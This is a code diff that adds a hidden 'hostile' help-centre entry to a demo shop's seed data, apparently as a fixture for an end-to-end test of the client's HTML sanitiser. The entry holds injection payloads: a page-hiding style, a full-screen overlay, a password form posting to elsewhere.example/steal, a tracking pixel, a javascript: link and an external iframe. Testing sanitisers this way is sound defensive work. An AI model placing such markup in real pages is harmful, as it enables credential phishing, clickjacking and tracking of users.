@@ -99,6 +99,17 @@ function seedContent(db: ShopDb, random: Random): void {
       content: `<h3>${columnName}</h3><p>${name}${columnName}：此为演示帮助内容。</p>`,
     });
   }
+  // Linked from no menu: the end-to-end test of the client's sanitiser opens it (helpCenter?id=hostile).
+  db.help.set('hostile', {
+    id: 'hostile',
+    columnName: '安全测试',
+    content:
+      '<style>body{visibility:hidden}</style><p>安全测试正文</p>' +
+      '<div style="position:fixed;inset:0;z-index:99999;background-color:red">遮罩</div>' +
+      '<form action="https://elsewhere.example/steal"><input type="password" name="pw"><button>登录</button></form>' +
+      '<img src="https://tracker.example/pixel.gif" alt="跟踪"><a href="javascript:alert(1)">点我</a>' +
+      '<a href="https://elsewhere.example/">外站链接</a><iframe src="https://elsewhere.example/frame"></iframe>',
+  });
   db.privacyPolicy = {
     privacyPolicyId: profile.shop.id * 10 + 1,
     privacyPolicyContent: [
